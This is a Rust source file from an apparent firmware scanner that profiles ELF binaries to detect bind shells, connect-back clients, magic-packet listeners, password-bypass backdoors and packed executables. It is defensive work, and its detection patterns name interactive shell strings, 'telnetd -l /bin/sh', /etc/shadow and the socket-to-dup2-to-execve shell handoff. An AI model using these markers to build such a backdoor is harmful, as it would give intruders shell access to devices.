//! Behaviour of every executable, from what the program can do rather than from a signature:
//! a listener that hands out commands (`backdoor.bind-shell`), a connect-back client
//! (`backdoor.connect-back`), a password prompt that never consults the account database
//! (magic-string authentication bypass, `backdoor.suspicious`), hard-coded network
//! indicators (`indicator.network`) and packed executables (`binary.packed`).
//!
//! Evidence comes from three places, whichever the binary has:
//! - dynamic imports (`socket`, `bind`, `listen`, `accept`, `connect`, `dup2`, `execve`, ...),
//!   read once by [`crate::elf::inspect`];
//! - for static binaries, the system-call stubs: the number loaded into the syscall-number
//!   register before the trap instruction (`li v0,N; syscall` on MIPS o32, `mov r7,#N; svc 0`
//!   on ARM EABI, `mov x8,#N; svc #0` on AArch64, `mov eax,N; syscall` / `int 0x80` on x86).
//!   A small linear register-constant tracker follows immediate moves, literal-pool loads,
//!   register copies and additions, because compilers load a number once and reuse it
//!   (no disassembler crate does this constant tracking across the five ISAs; decoding the
//!   few instruction forms needed is short and bounded);
//! - for dynamic binaries that import `socket`, the calls to the imports: the same tracker
//!   with each call to an import's PLT stub or GOT slot ([`crate::import_calls`]) taken as a
//!   trap, so that `socket`'s arguments (raw capture) and the descriptor `socket`/`accept`
//!   return (into `dup2` and an exec call, or into a receive call and an exec call) are seen;
//! - Go binaries: the package symbols kept in the pclntab even when stripped
//!   (`net.Listen`, `net.Dial`, `os/exec.(*Cmd).Start`, `syscall.Dup2`).
//!
//! The strings (`/bin/sh`, a password prompt, `/etc/shadow`, URLs and addresses) are read in
//! the same pass over the bytes. BusyBox is not skipped: it is identified by its banner and
//! applet table, its applets' legitimate network and exec capabilities are discounted, and
//! anything a BusyBox build does not contain (a hard-coded address or URL other than the
//! project's, a connect-back pattern string) is reported.
//!
//! UPX-packed executables are recognised by the `UPX!` l_info header and flagged; the
//! unpacker's `upx` handler restores the original as a child file
//! (`x.extract/0x0.upx/x`), which is profiled like any executable (and inherits the packed
//! file's boot entries). The `binary.packed` finding says whether that worked. Other packed
//! executables are recognised by the entropy of their executable segment.

use crate::elf;
use crate::import_calls::ImportTargets;
use memchr::memmem;
use netvet_model::{kinds, Finding, Severity};
use object::read::elf::{FileHeader, ProgramHeader};
use object::Endianness;
use std::collections::{BTreeMap, BTreeSet};

/// Bytes of executable code scanned for syscall stubs, per file.
const MAX_CODE_SCAN: usize = 16 << 20;
/// Bytes scanned for strings, per file.
const MAX_STRING_SCAN: usize = 32 << 20;

/// What a program can do, with the evidence for each capability.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Cap {
    Socket,
    Bind,
    Listen,
    Accept,
    Connect,
    /// dup2/dup3: redirecting a descriptor (a socket) onto stdio
    Dup,
    /// execve and friends, system, popen
    Exec,
    /// fork/clone + setsid or daemon(): detaches from the terminal
    Daemon,
    /// pcap or packet sockets: sees traffic not addressed to a listening port
    RawCapture,
    /// HTTP server package (Go net/http): a web service, not a shell listener
    HttpServer,
}

impl Cap {
    pub fn as_str(self) -> &'static str {
        match self {
            Cap::Socket => "socket",
            Cap::Bind => "bind",
            Cap::Listen => "listen",
            Cap::Accept => "accept",
            Cap::Connect => "connect",
            Cap::Dup => "dup2",
            Cap::Exec => "exec",
            Cap::Daemon => "daemonise",
            Cap::RawCapture => "raw capture",
            Cap::HttpServer => "http server",
        }
    }
}

/// How the evidence was read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Linkage {
    Dynamic,
    Static,
    Go,
}

/// A BusyBox binary: version and applet count.
#[derive(Debug, Clone, PartialEq)]
pub struct BusyBox {
    pub version: String,
    pub applets: usize,
    /// Applets that listen or hand out shells (`nc`, `telnetd`, `httpd`, ...), present.
    pub network_applets: Vec<String>,
}

/// Behaviour profile of one executable.
#[derive(Debug, Clone)]
pub struct Profile {
    pub path: String,
    pub arch: String,
    pub linkage: Linkage,
    pub caps: BTreeMap<Cap, String>,
    /// A shell path the program names (`/bin/sh`).
    pub shell: Option<String>,
    /// Authentication it can do: imports (`crypt`, `getspnam`, PAM) or account files it reads.
    pub auth: Vec<String>,
    /// A password / login prompt string.
    pub prompt: Option<String>,
    /// Literal commands that hand out a shell (`telnetd -l /bin/sh`, `/bin/sh -i`).
    pub shell_commands: Vec<String>,
    pub indicators: Vec<String>,
    pub busybox: Option<BusyBox>,
    /// Why the executable is considered packed.
    pub packed: Option<String>,
    /// Self-hiding signs (process renaming, deleting itself, anti-debugging).
    pub hiding: Vec<String>,
    /// Number of dynamic imports (0 for static and Go binaries).
    pub imports: usize,
    /// Bytes of executable segments (the program's code).
    pub code_size: u64,
    /// The shell is started interactive: a `-i` argument beside the shell path
    /// (`"/bin/sh -i"`, or `"sh"`/`"-i"` strings next to `/bin/sh`).
    pub interactive: Option<String>,
    /// Runs command lines through a shell: `system`/`popen` imports (what a magic-packet
    /// listener does with a command it received), as opposed to `exec*` of a program.
    pub command_line: Option<String>,
    /// Records captured packets to files (`pcap_dump_open`, `pcap_dump`): the mark of a
    /// capture tool (tcpdump), which a packet-triggered backdoor has no use for.
    pub recorder: Option<String>,
    /// Static binaries: the stub tracker followed a socket into the shell (socket ->
    /// connect or accept -> dup2 onto 0/1/2 -> execve); see [`StubScan::handoff`].
    pub handoff: Option<String>,
    /// Static binaries: the stub tracker saw the standard descriptors replaced by something
    /// other than a socket; see [`StubScan::not_handed`].
    pub not_handed: Option<String>,
    /// Dynamic executables: a raw socket read, then a program run, in one code region; see
    /// [`StubScan::packet_exec`].
    pub packet_exec: Option<String>,
    /// The program the socket-to-shell flow's exec call runs, when its path (or `system`'s
    /// command) is a string in the file; see [`StubScan::program`].
    pub handed_program: Option<String>,
}

impl Profile {
    pub fn has(&self, c: Cap) -> bool {
        self.caps.contains_key(&c)
    }
    /// Accepts connections: bind + (listen or accept), or a Go listener.
    pub fn listens(&self) -> bool {
        self.has(Cap::Listen) || (self.has(Cap::Bind) && self.has(Cap::Accept))
    }
    pub fn network(&self) -> bool {
        self.listens() || self.has(Cap::Connect) || self.has(Cap::RawCapture)
    }
    fn ev(&self, caps: &[Cap]) -> String {
        caps.iter()
            .filter_map(|c| self.caps.get(c))
            .cloned()
            .collect::<Vec<_>>()
            .join("; ")
    }
}

// the authentication imports and shell command lines are the suspicious-code heuristics' own
use crate::suspicious::{AUTH_IMPORTS, SHELL_COMMANDS};

/// The behaviour verdict on one executable, before boot context is added.
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    pub kind: &'static str,
    pub severity: Severity,
    pub title: String,
    pub evidence: String,
    pub key: String,
}

const EXEC_IMPORTS: &[&str] = &[
    "system",
    "popen",
    "execve",
    "execl",
    "execlp",
    "execle",
    "execv",
    "execvp",
    "execvpe",
    "posix_spawn",
    "posix_spawnp",
];
const SHELLS: &[&[u8]] = &[
    b"/bin/sh\0",
    b"/bin/ash\0",
    b"/bin/bash\0",
    b"/bin/busybox sh\0",
];
/// Go package symbols (they survive stripping in the pclntab) and the capability each shows.
const GO_CAPS: &[(Cap, &[&[u8]])] = &[
    (
        Cap::Listen,
        &[b"net.(*TCPListener).Accept", b"net.(*ListenConfig).Listen"],
    ),
    (Cap::Connect, &[b"net.(*Dialer).DialContext", b"net.Dial\0"]),
    (Cap::Exec, &[b"os/exec.(*Cmd).Start", b"syscall.Exec"]),
    (Cap::Dup, &[b"syscall.Dup2", b"syscall.Dup3"]),
    (Cap::HttpServer, &[b"net/http.(*Server).Serve"]),
    (Cap::Daemon, &[b"syscall.Setsid"]),
];
/// Literal shell invocations with `-i` (an interactive shell handed to a peer).
const INTERACTIVE: &[&[u8]] = &[b"/bin/sh -i", b"/bin/ash -i", b"/bin/bash -i", b"\0sh -i\0"];
/// The other fixed strings [`profile`] looks for.
const MARKERS: &[&[u8]] = &[
    b"\xff Go buildinf:",
    b"runtime.main",
    b"runtime.goexit",
    b"golang.org/x/crypto/ssh",
    b"crypto/subtle.ConstantTimeCompare",
    b"/proc/self/exe",
    b"BusyBox v",
    b"[\0[[\0",
];
/// Most offsets kept per shell path (the `-i` look-around of [`interactive_shell`]).
const MAX_SHELL_OFFSETS: usize = 4096;

/// Every fixed string [`profile`] looks for, in one pass over the file
/// ([`netvet_unpack::literals`]) instead of one `memmem` pass per string (about 45).
struct Strings {
    /// per pattern of [`string_set`]: every offset (shell paths, bounded) or the first
    offsets: Vec<Vec<usize>>,
}

fn string_patterns() -> Vec<&'static [u8]> {
    let mut v: Vec<&'static [u8]> = Vec::new();
    for list in [
        SHELLS,
        SHELL_COMMANDS,
        INTERACTIVE,
        PROMPTS,
        ACCOUNT_FILES,
        MARKERS,
    ] {
        v.extend_from_slice(list);
    }
    for (_, pats) in GO_CAPS {
        v.extend_from_slice(pats);
    }
    v.sort_unstable();
    v.dedup();
    v
}

/// The compiled pattern set and its patterns; `None` if it could not be built (then each
/// string is searched on its own).
fn string_set() -> &'static (
    Vec<&'static [u8]>,
    Option<netvet_unpack::literals::Literals>,
) {
    static SET: std::sync::LazyLock<(
        Vec<&'static [u8]>,
        Option<netvet_unpack::literals::Literals>,
    )> = std::sync::LazyLock::new(|| {
        let pats = string_patterns();
        let set = netvet_unpack::literals::Literals::new(&pats).ok();
        (pats, set)
    });
    &SET
}

impl Strings {
    fn find(scan: &[u8]) -> Strings {
        let (pats, set) = string_set();
        let keep_all: Vec<bool> = pats.iter().map(|p| SHELLS.contains(p)).collect();
        let mut offsets = vec![Vec::new(); pats.len()];
        match set {
            Some(set) => {
                for h in set.find_iter(scan) {
                    let o = &mut offsets[h.pattern];
                    if o.is_empty() || (keep_all[h.pattern] && o.len() < MAX_SHELL_OFFSETS) {
                        o.push(h.start);
                    }
                }
            }
            None => {
                for (i, p) in pats.iter().enumerate() {
                    let max = if keep_all[i] { MAX_SHELL_OFFSETS } else { 1 };
                    offsets[i] = memmem::find_iter(scan, p).take(max).collect();
                }
            }
        }
        Strings { offsets }
    }

    fn all(&self, pat: &[u8]) -> &[usize] {
        let (pats, _) = string_set();
        pats.binary_search(&pat)
            .ok()
            .and_then(|i| self.offsets.get(i))
            .map_or(&[], Vec::as_slice)
    }

    fn first(&self, pat: &[u8]) -> Option<usize> {
        self.all(pat).first().copied()
    }

    fn has(&self, pat: &[u8]) -> bool {
        self.first(pat).is_some()
    }
}

const PROMPTS: &[&[u8]] = &[b"Password:", b"password:", b"Password: ", b"login:"];
const ACCOUNT_FILES: &[&[u8]] = &[b"/etc/shadow", b"/etc/passwd", b"/etc/login.defs"];
/// Network applets of BusyBox whose presence explains socket/exec capabilities.
const BUSYBOX_NETWORK_APPLETS: &[&str] = &[
    "nc",
    "telnetd",
    "httpd",
    "ftpd",
    "tftpd",
    "udhcpd",
    "inetd",
    "wget",
    "ntpd",
    "tcpsvd",
    "udpsvd",
    "ftpget",
    "tftp",
    "telnet",
    "traceroute",
    "ping",
];
/// Hosts that stock software names in help texts and banners; never indicators.
const BENIGN_HOSTS: &[&str] = &[
    "busybox.net",
    "www.busybox.net",
    "bugs.busybox.net",
    "openssl.org",
    "www.openssl.org",
    "gnu.org",
    "www.gnu.org",
    "kernel.org",
    "www.kernel.org",
    "openwrt.org",
    "www.openwrt.org",
    "w3.org",
    "www.w3.org",
    "curl.se",
    "curl.haxx.se",
    "gcc.gnu.org",
    "sourceware.org",
    "bugs.debian.org",
    "www.debian.org",
    "ietf.org",
    "www.ietf.org",
    "tools.ietf.org",
    "xmlsoap.org",
    "schemas.xmlsoap.org",
    "purl.org",
    "upnp.org",
    "schemas.upnp.org",
    "www.upnp.org",
    "dlna.org",
    "mozilla.org",
    "www.mozilla.org",
    "github.com",
    "sqlite.org",
    "www.sqlite.org",
    "zlib.net",
    "www.zlib.net",
    "libpng.org",
    "www.libpng.org",
    "json.org",
    "samba.org",
    "www.samba.org",
    "isc.org",
    "www.isc.org",
    "dnsmasq",
    "thekelleys.org.uk",
    "www.thekelleys.org.uk",
    "ntp.org",
    "pool.ntp.org",
    "openvpn.net",
    "www.openvpn.net",
    "lua.org",
    "www.lua.org",
    "apache.org",
    "www.apache.org",
    "xml.org",
    "www.xml.org",
    "localhost",
];

/// Profile one file, if it is an executable ELF (or shared object). `None` for anything
/// else.
pub fn profile(path: &str, data: &[u8]) -> Option<Profile> {
    profile_with(path, data, &elf::inspect(data).ok()?)
}

/// [`profile`] with the file's ELF reading done by the caller.
fn profile_with(path: &str, data: &[u8], h: &elf::Hardening) -> Option<Profile> {
    if !(h.elf_type.is_executable() || h.elf_type == elf::ElfType::Dso) || h.kernel_module {
        return None;
    }
    let scan = &data[..data.len().min(MAX_STRING_SCAN)];
    let lits = Strings::find(scan);
    let go = lits.has(b"\xff Go buildinf:")
        || (lits.has(b"runtime.main") && lits.has(b"runtime.goexit"));
    let linkage = if go {
        Linkage::Go
    } else if h.imports.is_empty() && h.needed.is_empty() {
        Linkage::Static
    } else {
        Linkage::Dynamic
    };
    let mut p = Profile {
        path: path.to_string(),
        arch: h.arch.clone(),
        linkage,
        caps: BTreeMap::new(),
        shell: None,
        auth: Vec::new(),
        prompt: None,
        shell_commands: Vec::new(),
        indicators: Vec::new(),
        busybox: None,
        packed: None,
        hiding: Vec::new(),
        imports: h.imports.len(),
        code_size: exec_segments(data).iter().map(|s| s.1).sum(),
        interactive: None,
        command_line: None,
        recorder: None,
        handoff: None,
        not_handed: None,
        packet_exec: None,
        handed_program: None,
    };
    let has = |n: &str| h.imports.iter().any(|i| i == n);

    // imports
    let imp = |names: &[&str]| -> Option<String> {
        let found: Vec<&str> = names.iter().copied().filter(|n| has(n)).collect();
        (!found.is_empty()).then(|| format!("imports {}", found.join(", ")))
    };
    let import_caps: [(Cap, &[&str]); 9] = [
        (Cap::Socket, &["socket"]),
        (Cap::Bind, &["bind"]),
        (Cap::Listen, &["listen"]),
        (Cap::Accept, &["accept", "accept4"]),
        (Cap::Connect, &["connect"]),
        (Cap::Dup, &["dup2", "dup3"]),
        (Cap::Exec, EXEC_IMPORTS),
        (Cap::Daemon, &["daemon", "setsid"]),
        (
            Cap::RawCapture,
            &["pcap_open_live", "pcap_loop", "pcap_next", "pcap_dispatch"],
        ),
    ];
    for (cap, names) in import_caps {
        if let Some(e) = imp(names) {
            p.caps.insert(cap, e);
        }
    }
    p.command_line = imp(&["system", "popen"]);
    p.recorder = imp(&["pcap_dump_open", "pcap_dump", "pcap_dump_fopen"]);
    p.auth = AUTH_IMPORTS
        .iter()
        .filter(|n| has(n))
        .map(|n| format!("imports {n}"))
        .collect();
    if has("prctl") {
        p.hiding
            .push("imports prctl (can rename its process)".into());
    }
    if has("ptrace") {
        p.hiding.push("imports ptrace (anti-debugging)".into());
    }

    // static binaries: calls to C library functions recognised by signature (they name
    // what the program calls), then the syscall stubs
    if linkage == Linkage::Static {
        let lib = library_call_scan(data);
        for (cap, e) in lib.scan.caps {
            p.caps.entry(cap).or_insert(e);
        }
        if p.command_line.is_none() {
            p.command_line = lib.command_line;
        }
        let stubs = stub_scan(data);
        for (cap, e) in stubs.caps {
            p.caps.entry(cap).or_insert(e);
        }
        (p.handoff, p.handed_program) = match lib.scan.handoff {
            Some(h) => (Some(h), lib.scan.program),
            None => (stubs.handoff, stubs.program),
        };
        p.not_handed = match p.handoff {
            Some(_) => None,
            None => lib.scan.not_handed.or(stubs.not_handed),
        };
        p.packet_exec = lib.scan.packet_exec;
    }
    // dynamic executables that can open a socket: the calls to the imports (cheap
    // prefilter: the call-site decoding runs only where `socket` is imported)
    if linkage == Linkage::Dynamic && has("socket") {
        let calls = import_call_scan(data);
        for (cap, e) in calls.caps {
            p.caps.entry(cap).or_insert(e);
        }
        p.handoff = calls.handoff;
        p.handed_program = calls.program;
        p.not_handed = calls.not_handed;
        p.packet_exec = calls.packet_exec;
    }
    // Go binaries: package symbols
    if linkage == Linkage::Go {
        for &(cap, pats) in GO_CAPS {
            if let Some(pat) = pats.iter().find(|pat| lits.has(pat)) {
                let name = String::from_utf8_lossy(pat.strip_suffix(b"\0").unwrap_or(pat));
                p.caps
                    .entry(cap)
                    .or_insert_with(|| format!("Go symbol {name}"));
            }
        }
        if lits.has(b"golang.org/x/crypto/ssh") || lits.has(b"crypto/subtle.ConstantTimeCompare") {
            p.auth.push("Go package crypto (ssh/subtle)".into());
        }
    }

    // strings
    p.shell = SHELLS.iter().find_map(|s| {
        lits.first(s).map(|o| {
            format!(
                "\"{}\" at offset {o:#x}",
                String::from_utf8_lossy(&s[..s.len() - 1])
            )
        })
    });
    for c in SHELL_COMMANDS {
        if let Some(o) = lits.first(c) {
            p.shell_commands.push(format!(
                "\"{}\" at offset {o:#x}",
                String::from_utf8_lossy(c)
            ));
        }
    }
    p.interactive = interactive_shell(scan, &lits);
    p.prompt = PROMPTS.iter().find_map(|s| {
        lits.first(s)
            .map(|o| format!("\"{}\" at offset {o:#x}", String::from_utf8_lossy(s).trim()))
    });
    for f in ACCOUNT_FILES {
        if lits.has(f) {
            p.auth.push(format!("reads {}", String::from_utf8_lossy(f)));
        }
    }
    if lits.has(b"/proc/self/exe") && has("unlink") {
        p.hiding
            .push("names /proc/self/exe and imports unlink (can delete itself)".into());
    }
    p.indicators = indicators(scan);
    p.busybox = lits
        .first(b"BusyBox v")
        .and_then(|at| busybox_at(scan, at, lits.first(b"[\0[[\0")));
    if let Some(bb) = &p.busybox {
        // BusyBox help texts and its own project URLs are not indicators
        let _ = bb;
        p.indicators.retain(|i| !i.contains("busybox"));
    }
    p.packed = packed(data);
    Some(p)
}

/// What [`Behaviour`] computes per file: the [`profile`] and the older signal rules' finding
/// (not for BusyBox); `None` for a file that is no program.
pub type ProfiledFile = Option<(Profile, Option<Finding>)>;

/// [`ProfiledFile`] of one file; also computed while the image unpacks ([`crate::prework`]).
pub fn profile_file(path: &str, data: &[u8]) -> ProfiledFile {
    // one reading of the ELF structure for both
    let h = elf::inspect(data).ok()?;
    let p = profile_with(path, data, &h);
    let legacy = p
        .as_ref()
        .filter(|p| p.busybox.is_none())
        .and_then(|_| crate::suspicious::judge_with(path, data, &h));
    p.map(|p| (p, legacy))
}

/// Most dynamic imports of a program whose shell-handing capabilities are "all it does": a
/// bind shell or connect-back client needs about ten (socket, bind, listen, accept, dup2,
/// execve, htons, ...) plus the C runtime; a daemon that also runs helper scripts (dnsmasq's
/// dhcp-script, a DDNS client's hook) imports hundreds.
pub(crate) const SMALL_PROGRAM_IMPORTS: usize = 64;
/// Most executable bytes of such a program when it is statically linked (a static uClibc or
/// musl bind shell is a few tens of KB; the smallest static daemon with its own service code
/// is several hundred).
const SMALL_PROGRAM_CODE: u64 = 128 << 10;

/// A `-i` argument for the shell the program names: the literal `"/bin/sh -i"` (or `sh -i`),
/// or a `"-i"` string within 32 bytes of a shell path (an `argv[] = {"sh", "-i", 0}` array's
/// strings are laid out together in `.rodata`).
fn interactive_shell(scan: &[u8], lits: &Strings) -> Option<String> {
    for lit in INTERACTIVE {
        if let Some(o) = lits.first(lit) {
            let t = String::from_utf8_lossy(lit).trim_matches('\0').to_string();
            return Some(format!("\"{t}\" at offset {o:#x}"));
        }
    }
    for sh in SHELLS {
        for &o in lits.all(sh) {
            let lo = o.saturating_sub(32);
            let hi = (o + sh.len() + 32).min(scan.len());
            if let Some(j) = memmem::find(&scan[lo..hi], b"\0-i\0") {
                return Some(format!(
                    "\"-i\" at offset {:#x} beside \"{}\" at offset {o:#x}",
                    lo + j + 1,
                    String::from_utf8_lossy(&sh[..sh.len() - 1])
                ));
            }
        }
    }
    None
}

/// Evidence that the shell a listener or client can start is handed to the network peer,
/// beyond having the capabilities (socket + dup2 + exec + a shell path are also what every
/// daemon that runs a helper script through `/bin/sh` with redirected descriptors has):
/// the socket followed into `dup2` and `execve` by the stub tracker (static binaries), an
/// interactive shell argument, or a program so small that handing out the shell is all
/// it does. Go programs are judged on their package symbols alone (one severity lower).
fn shell_handoff(p: &Profile) -> Option<String> {
    // the flow names a program that is not a shell (an inetd-style server hands the
    // connection to the daemon its configuration names): the peer gets that program
    if p.handed_program
        .as_deref()
        .is_some_and(|prog| !crate::exec_path::is_shell(prog))
    {
        return None;
    }
    // data flow is the strongest evidence: it holds whatever the program's size
    if let Some(h) = &p.handoff {
        return Some(h.clone());
    }
    if let Some(i) = &p.interactive {
        return Some(format!("interactive shell {i}"));
    }
    // the stubs show stdio going somewhere else: the size of the program proves nothing
    if p.not_handed.is_some() {
        return None;
    }
    match p.linkage {
        Linkage::Dynamic if p.imports <= SMALL_PROGRAM_IMPORTS => Some(format!(
            "a small program: {} imports, nothing besides the network, descriptor and exec calls and the C runtime",
            p.imports
        )),
        Linkage::Static if p.code_size <= SMALL_PROGRAM_CODE => Some(format!(
            "a small program: {} bytes of code",
            p.code_size
        )),
        Linkage::Go => Some("Go package symbols".into()),
        _ => None,
    }
}

/// Why a program with the capabilities is not called a bind shell or connect-back client.
fn no_handoff_reason(p: &Profile) -> String {
    if let (Some(h), Some(prog)) = (&p.handoff, &p.handed_program) {
        return format!(
            "the connection is handed to \"{prog}\", not a shell (an inetd-style server): {h}"
        );
    }
    if let Some(n) = &p.not_handed {
        return format!(
            "the standard descriptors are replaced by another descriptor, not the socket ({n})"
        );
    }
    match p.linkage {
        Linkage::Static => format!(
            "{} bytes of code (more than a program that only hands out a shell) and no interactive shell argument",
            p.code_size
        ),
        _ => format!(
            "{} imports (a program with other service code) and no interactive shell argument",
            p.imports
        ),
    }
}

/// The behaviour verdicts of one profile (possibly several, for example a bind shell that
/// also carries a hard-coded address).
pub fn judge(p: &Profile) -> Vec<Verdict> {
    let mut out = Vec::new();
    let name = p.path.rsplit('/').next().unwrap_or(&p.path).to_string();
    let linkage = match p.linkage {
        Linkage::Dynamic => "dynamic imports",
        Linkage::Static
            if p.caps
                .values()
                .any(|e| e.contains("(library function recognised by signature)")) =>
        {
            "static binary, library calls recognised by signature and syscall stubs"
        }
        Linkage::Static => "static binary, syscall stubs",
        Linkage::Go => "Go binary, package symbols",
    };
    // Go evidence is package-level (the program may use the packages for something
    // else): one step lower
    let strong = if p.linkage == Linkage::Go {
        Severity::Medium
    } else {
        Severity::High
    };
    let execs_shell = p.has(Cap::Exec) && p.shell.is_some();
    let hands_stdio = p.has(Cap::Dup) || p.linkage == Linkage::Go;
    let no_auth = p.auth.is_empty();
    let extra = {
        let mut v = Vec::new();
        if p.has(Cap::Daemon) {
            v.push(format!("daemonises ({})", p.caps[&Cap::Daemon]));
        }
        v.extend(p.hiding.iter().cloned());
        if v.is_empty() {
            String::new()
        } else {
            format!("; also {}", v.join("; "))
        }
    };

    if let Some(bb) = &p.busybox {
        // BusyBox: the applets explain listener/exec capabilities. What a BusyBox build
        // never carries is a hard-coded public address or foreign URL, or a connect-back
        // command line: those mark a modified build.
        let foreign: Vec<&String> = p.indicators.iter().collect();
        if !foreign.is_empty() || !p.shell_commands.is_empty() {
            let mut ev = vec![format!(
                "BusyBox {} with {} applets",
                bb.version, bb.applets
            )];
            if !foreign.is_empty() {
                ev.push(format!(
                    "hard-coded network indicators a BusyBox build does not contain: {}",
                    foreign
                        .iter()
                        .map(|s| s.as_str())
                        .collect::<Vec<_>>()
                        .join(", ")
                ));
            }
            if !p.shell_commands.is_empty() {
                ev.push(format!(
                    "embedded shell command lines: {}",
                    p.shell_commands.join(", ")
                ));
            }
            out.push(Verdict {
                kind: kinds::BACKDOOR_SUSPICIOUS,
                severity: Severity::Medium,
                title: format!("{name}: BusyBox build that is not a stock build"),
                evidence: ev.join("; "),
                key: "busybox-modified".into(),
            });
        }
        return out;
    }

    let prompt_without_accounts = p.listens() && execs_shell && p.prompt.is_some() && no_auth;
    if prompt_without_accounts {
        out.push(Verdict {
            kind: kinds::BACKDOOR_SUSPICIOUS,
            severity: strong,
            title: format!(
                "{name} asks for a password over the network but never checks an account database (magic-string authentication)"
            ),
            evidence: format!(
                "{linkage}: listener ({}); command execution ({}); shell {}; prompt {}; no authentication import and no account file (crypt, getspnam, PAM, /etc/shadow, /etc/passwd){extra}",
                p.ev(&[Cap::Socket, Cap::Bind, Cap::Listen, Cap::Accept]),
                p.ev(&[Cap::Exec, Cap::Dup]),
                p.shell.as_deref().unwrap_or("-"),
                p.prompt.as_deref().unwrap_or("-"),
            ),
            key: "magic-auth".into(),
        });
    } else if p.listens() && execs_shell && hands_stdio && no_auth && !p.has(Cap::HttpServer) {
        match shell_handoff(p) {
            None => out.push(Verdict {
                kind: kinds::BACKDOOR_SUSPICIOUS,
                severity: Severity::Low,
                title: format!("{name} listens, redirects descriptors and can run a shell; nothing shows it hands the shell to a connection"),
                evidence: format!(
                    "{linkage}: listener ({}); descriptor redirection and execution ({}); shell {}; not called a bind shell: {}{extra}",
                    p.ev(&[Cap::Socket, Cap::Bind, Cap::Listen, Cap::Accept]),
                    p.ev(&[Cap::Dup, Cap::Exec]),
                    p.shell.as_deref().unwrap_or("-"),
                    no_handoff_reason(p),
                ),
                key: "listener-shell-capable".into(),
            }),
            Some(handoff) => out.push(Verdict {
            kind: kinds::BACKDOOR_BIND_SHELL,
            severity: strong,
            title: format!("{name} listens on the network and hands out a shell without authentication"),
            evidence: format!(
                "{linkage}: listener ({}); descriptor redirection and execution ({}); shell {}; {handoff}; no authentication import or account file{extra}",
                p.ev(&[Cap::Socket, Cap::Bind, Cap::Listen, Cap::Accept]),
                p.ev(&[Cap::Dup, Cap::Exec]),
                p.shell.as_deref().unwrap_or("-"),
            ),
            key: "bind-shell".into(),
        }),
        }
    } else if p.has(Cap::Connect)
        && !p.listens()
        && execs_shell
        && hands_stdio
        && no_auth
        && !p.has(Cap::HttpServer)
    {
        let ind = if p.indicators.is_empty() {
            String::new()
        } else {
            format!("; hard-coded peers: {}", p.indicators.join(", "))
        };
        match shell_handoff(p) {
            None => out.push(Verdict {
                kind: kinds::BACKDOOR_SUSPICIOUS,
                severity: Severity::Low,
                title: format!("{name} connects out, redirects descriptors and can run a shell; nothing shows it hands the shell to the peer"),
                evidence: format!(
                    "{linkage}: outgoing connection ({}); descriptor redirection and execution ({}); shell {}{ind}; not called a connect-back client: {}{extra}",
                    p.ev(&[Cap::Socket, Cap::Connect]),
                    p.ev(&[Cap::Dup, Cap::Exec]),
                    p.shell.as_deref().unwrap_or("-"),
                    no_handoff_reason(p),
                ),
                key: "client-shell-capable".into(),
            }),
            Some(handoff) => out.push(Verdict {
            kind: kinds::BACKDOOR_CONNECT_BACK,
            severity: strong,
            title: format!("{name} connects out and hands the connection a shell (connect-back client)"),
            evidence: format!(
                "{linkage}: outgoing connection ({}); descriptor redirection and execution ({}); shell {}{ind}; {handoff}; no authentication{extra}",
                p.ev(&[Cap::Socket, Cap::Connect]),
                p.ev(&[Cap::Dup, Cap::Exec]),
                p.shell.as_deref().unwrap_or("-"),
            ),
            key: "connect-back".into(),
        }),
        }
    } else if p.has(Cap::RawCapture) && p.has(Cap::Exec) && !p.listens() {
        // A magic-packet listener runs what a packet tells it: a command line through a
        // shell. A capture tool also captures and executes (tcpdump's `-z` post-rotate
        // command, an `execlp` of a program named on its command line) but records what it
        // captures and names no shell; without data flow from the packet buffer to the exec
        // call, those two marks tell them apart.
        let runs_commands = p
            .command_line
            .clone()
            .or_else(|| p.shell.as_ref().map(|s| format!("shell {s}")))
            .or_else(|| {
                p.shell_commands
                    .first()
                    .map(|c| format!("command line {c}"))
            });
        // a raw socket seen at a call site of a dynamic executable: DHCP, PPPoE, LLDP and
        // router-advertisement daemons open packet sockets and run scripts, so the packet
        // must be seen going to the program run (pcap imports and static stubs keep the two
        // marks alone)
        let call_site_raw = p.linkage == Linkage::Dynamic
            && p.caps
                .get(&Cap::RawCapture)
                .is_some_and(|e| e.starts_with("call socket"));
        let flow = match (&p.packet_exec, call_site_raw) {
            (Some(f), _) => Some(format!("; {f}")),
            (None, false) => Some(String::new()),
            (None, true) => None,
        };
        if let (Some(runs), None, Some(flow)) = (&runs_commands, &p.recorder, flow) {
            out.push(Verdict {
                kind: kinds::BACKDOOR_SUSPICIOUS,
                severity: Severity::Medium,
                title: format!(
                    "{name} captures raw packets and runs command lines (magic-packet listener pattern)"
                ),
                evidence: format!(
                    "{linkage}: raw capture ({}); command execution ({}); runs command lines ({runs}); records no packets (no pcap_dump*); no listening socket{flow}{extra}",
                    p.ev(&[Cap::RawCapture]),
                    p.ev(&[Cap::Exec]),
                ),
                key: "magic-packet".into(),
            });
        }
    }
    if !p.indicators.is_empty() && p.network() {
        let shown: Vec<&str> = p.indicators.iter().take(12).map(|s| s.as_str()).collect();
        let more = p.indicators.len().saturating_sub(shown.len());
        out.push(Verdict {
            kind: kinds::INDICATOR_NETWORK,
            severity: Severity::Info,
            title: format!(
                "{name} carries hard-coded network addresses ({}{})",
                shown.iter().take(3).copied().collect::<Vec<_>>().join(", "),
                if p.indicators.len() > 3 { ", ..." } else { "" }
            ),
            evidence: format!(
                "{}{}; network capability: {}",
                shown.join(", "),
                if more > 0 {
                    format!(" and {more} more")
                } else {
                    String::new()
                },
                p.ev(&[Cap::Listen, Cap::Connect, Cap::RawCapture])
            ),
            key: "indicators".into(),
        });
    }
    if let Some(why) = &p.packed {
        out.push(Verdict {
            kind: kinds::BINARY_PACKED,
            severity: Severity::Medium,
            title: format!("{name} is packed (its code is hidden from static reading)"),
            evidence: why.clone(),
            key: "packed".into(),
        });
    }
    out
}

/// The packed file an original restored by the unpacker's `upx` handler came from
/// (`usr/sbin/x.extract/0x0.upx/x` -> `usr/sbin/x`).
pub fn upx_packed_path(path: &str) -> Option<&str> {
    let i = path.rfind(".extract/")?;
    path[i + ".extract/".len()..]
        .starts_with("0x0.upx/")
        .then(|| &path[..i])
}

/// Say in a `binary.packed` finding whether the unpacker restored the original (then the
/// original's own findings stand for the program, and the packing itself is low) or not.
fn packed_outcome(tree: &netvet_unpack::Tree, e: &netvet_unpack::Entry, f: &mut Finding) {
    if !f.evidence.starts_with("UPX") {
        return;
    }
